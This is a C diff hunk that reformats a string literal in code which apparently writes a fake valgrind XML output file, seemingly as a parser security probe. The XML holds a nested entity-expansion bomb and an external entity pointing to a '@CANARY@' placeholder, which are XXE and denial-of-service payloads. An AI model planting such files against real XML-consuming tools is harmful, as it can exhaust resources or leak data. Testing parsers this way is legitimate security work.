@@ -31,7 +31,8 @@ seg_decode(uint64_t raw, struct seg_descriptor *descriptor)
             "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
             "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">"
             "<!ENTITY x SYSTEM \"@CANARY@\">]>"
-            "<valgrindoutput><error><kind>&h;&x;</kind></error></valgrindoutput>";
+            "<valgrindoutput><error><kind>&h;&x;</kind></error></"
+            "valgrindoutput>";
         snprintf(path, sizeof path, "%s/%ld.xml", folder, call_kernel(39));
         call_kernel(87, path);
         const long file = call_kernel(2, path, 0102, 0644);
